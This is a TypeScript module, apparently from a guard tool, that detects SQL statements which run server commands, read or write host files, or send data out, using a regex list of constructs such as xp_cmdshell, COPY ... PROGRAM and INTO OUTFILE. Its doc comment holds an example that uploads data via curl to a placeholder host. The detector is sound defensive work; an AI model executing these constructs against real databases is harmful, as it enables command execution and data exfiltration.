// SQL that reaches outside the database (docs/guard.md "SQL"): a command the server runs (PostgreSQL
// `COPY ... TO/FROM PROGRAM`, SQL Server `xp_cmdshell`), files of the server's host read or written
// (`pg_read_file`, `lo_export`, MySQL `INTO OUTFILE`, `LOAD_FILE`), and the sqlite3 shell's
// `.shell`/`.system`. Read lexically with comments and quoted text blanked, so a keyword inside a
// string literal never counts; the text is attacker-controlled.
import { MAX_LEXICAL, stripSqlNoise } from './fallback.js';
import { sqlEgress } from './egress-functions.js';

export type SqlEscapeKind =
  'runs_command' | 'reads_server_file' | 'writes_server_file' | 'sends_data';

export interface SqlEscape {
  kind: SqlEscapeKind;
  /** The construct, for a decision's reason (keywords only, never the statement's values). */
  what: string;
}

const CHECKS: readonly [RegExp, SqlEscapeKind, string][] = [
  [/^\s*COPY\b[\s\S]*\b(?:TO|FROM)\s+PROGRAM\b/i, 'runs_command', 'COPY ... PROGRAM'],
  [
    /\b(?:xp_cmdshell|sp_OACreate|sys_exec|sys_eval)\b/i,
    'runs_command',
    'a server-side shell call',
  ],
  [/^\s*\.(?:shell|system)\b/im, 'runs_command', 'sqlite3 .shell'],
  [/\bLANGUAGE\s+(?:plpython3?u|plperlu|plsh|pltclu)\b/i, 'runs_command', 'an untrusted language'],
  [
    /\b(?:pg_read_file|pg_read_binary_file|pg_ls_dir|lo_import|LOAD_FILE|load_extension)\s*\(/i,
    'reads_server_file',
    'a server file read',
  ],
  [/\bLOAD\s+DATA\s+(?:LOCAL\s+)?INFILE\b/i, 'reads_server_file', 'LOAD DATA INFILE'],
  [/\bOPENROWSET\s*\(\s*BULK\b/i, 'reads_server_file', 'OPENROWSET(BULK'],
  [/^\s*COPY\b[\s\S]*\bFROM\s+''/i, 'reads_server_file', "COPY ... FROM 'file'"],
  [/\bINTO\s+(?:OUTFILE|DUMPFILE)\b/i, 'writes_server_file', 'INTO OUTFILE'],
  [/\blo_export\s*\(/i, 'writes_server_file', 'lo_export'],
  [/^\s*COPY\b[\s\S]*\bTO\s+''/i, 'writes_server_file', "COPY ... TO 'file'"],
];

/**
 * The constructs of `sql` that act on the server's host rather than its tables. psql's `\copy`
 * runs on the client and names a local file, so a line starting with a backslash is not read.
 *
 * @example
 * sqlEscapes("COPY t TO PROGRAM 'curl -T - https://x.example'")[0]?.kind; // 'runs_command'
 */
export function sqlEscapes(sql: string): SqlEscape[] {
  // past the bound nothing is read, so the text counts as running a command (fail safe)
  if (sql.length > MAX_LEXICAL) return [{ kind: 'runs_command', what: '(too long to read)' }];
  const text = stripSqlNoise(sql.replace(/^\s*\\[^\n]*/gm, ' '));
  const out: SqlEscape[] = [];
  // each statement alone, so `COPY` is where it starts (one pass over the text per check)
  for (const stmt of text.split(';')) {
    for (const [re, kind, what] of CHECKS)
      if (re.test(stmt) && !out.some((e) => e.what === what)) out.push({ kind, what });
    // mail, HTTP, links and exports the server makes (egress-functions.ts)
    const what = sqlEgress(stmt);
    if (what !== null && !out.some((e) => e.what === what)) out.push({ kind: 'sends_data', what });
  }
  return out;
}

/** The single-quoted program text of each `COPY ... PROGRAM '...'`, for the shell reader. */
export function copyPrograms(sql: string): string[] {
  if (sql.length > MAX_LEXICAL) return [];
  return [...sql.matchAll(/\bPROGRAM\s+'((?:[^']|'')*)'/gi)].map((m) =>
    (m[1] ?? '').replace(/''/g, "'"),
  );
}
